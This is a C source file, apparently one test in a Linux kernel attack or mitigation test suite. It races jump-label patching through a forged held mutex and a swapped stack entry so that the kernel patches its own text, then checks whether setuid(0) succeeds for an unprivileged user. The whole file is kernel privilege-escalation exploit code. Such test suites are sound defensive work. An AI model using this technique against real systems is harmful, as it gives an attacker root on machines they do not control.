// SPDX-License-Identifier: GPL-2.0-only
/*
 * Who patches a jump label waits for a mutex that is made to look held, and its entry is
 * changed on the stack to one in ordinary memory. The section asks what is at the place
 * that this entry names, which is an ordinary page. It notes the place in 32 bits, counted
 * from the kernel's text, and a multiple of 4 GiB away from that page is this text.
 */
#include <stdio.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"
#include "patching.h"

#ifdef __x86_64__
#define ASKED		"arch_jump_label_transform_queue"
#define ASKED_LENGTH	0x80
#define FAR_MASK	0xffffffffUL
#define ROOM		128		/* from the place to the entry */

static const unsigned char nop[PATCH] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

static struct {
	uint64_t own, code, target, key, far, entry, phys;
	char old[ROOM + sizeof(struct jump_entry)];
} jump;

static bool change_entry(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	(void)change;
	return held_replace(addr, words, jump.own, jump.entry);
}

/* The kernel looks for what it expects where the entry says. */
static bool turn(bool on, const struct held_change *way)
{
	const struct held_lock lock = held_mutex();
	struct text_poke_loc loc = make_jump(jump.code, jump.target);
	bool changed;

	kwrite(jump.far, on ? nop : loc.text, PATCH);
	changed = held_act(&lock, way);
	held_settle();
	return changed;
}

/* By the direct map: the same low 32 bits as the place in the kernel's text. */
static bool find_far(void)
{
	struct slot slot;

	jump.phys = (jump.code - direct_map_base()) & FAR_MASK;
	jump.far = direct_map_base() + jump.phys;
	if (kwalk(jump.far, LEAF, 0, &slot) || slot.phys != jump.phys)
		return false;
	jump.entry = (jump.far & -16UL) + ROOM;
	return frame_of(jump.phys) == FRAME_ORDINARY &&
	       jump.phys % PAGE_SIZE < PAGE_SIZE - 2 * ROOM &&
	       !kread(jump.far, jump.old, sizeof(jump.old));
}

static bool prepare(void)
{
	jump.key = ksymbol(KEY);
	jump.own = patched_entry();
	jump.code = find_code();
	jump.target = find_target();
	return jump.key && !kread64(jump.key) && jump.code && jump.target;
}

enum outcome jump_far(void)
{
	const struct held_change way = { ASKED, ASKED_LENGTH, change_entry, held_is_never_over, NULL };
	int err;
	bool jumps;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	held_start(switch_over);
	if (!prepare())
		return broken("no static key, or no place that can be patched");
	if (!find_far())
		return skipped("no ordinary page of the direct map ends like 0x%lx (0x%lx)",
			       jump.code, jump.phys);
	write_entry(jump.entry, jump.far, jump.far + (jump.target - jump.code), jump.key);
	if (!turn(true, &way))
		return broken("nobody waited with the entry");
	jumps = is_jump(jump.code);
	err = !is_root_for_the_asking();
	if (jumps)
		turn(false, &way);
	else
		held_ask();
	held_settle();
	held_stop();
	kwrite(jump.far, jump.old, sizeof(jump.old));
	if (!jumps)
		return lost("the kernel patched its own places only");
	if (err)
		return lost("the text was patched, and setuid(0) refused");
	return won("an entry that names physical 0x%lx had the kernel's text at 0x%lx patched: setuid(0) by uid=%d is let through",
		   jump.phys, jump.code, getuid());
}
#else
enum outcome jump_far(void)
{
	return skipped("x86-64 only");
}
#endif
